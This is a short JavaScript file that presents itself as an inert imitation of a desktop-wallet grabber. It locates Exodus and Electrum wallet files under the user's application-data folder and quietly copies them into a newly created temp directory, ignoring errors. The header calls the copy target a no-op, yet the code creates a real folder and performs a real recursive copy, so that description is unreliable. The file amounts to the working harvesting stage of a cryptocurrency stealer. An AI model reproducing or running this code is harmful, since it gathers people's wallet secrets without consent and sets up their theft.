/* eslint-disable */
// Inert imitation of a desktop-wallet grabber: Exodus and Electrum wallet files are copied to a
// temp folder (the copy target is a no-op directory here).
const fs = require('fs');
const os = require('os');
const path = require('path');

const appData = process.env.APPDATA || path.join(os.homedir(), '.config');
const sources = [path.join(appData, 'Exodus', 'exodus.wallet'), path.join(appData, 'Electrum', 'wallets')];
const out = fs.mkdtempSync(path.join(os.tmpdir(), 'w-'));

for (const src of sources) {
  try {
    fs.cpSync(src, path.join(out, path.basename(src)), { recursive: true });
  } catch {}
}
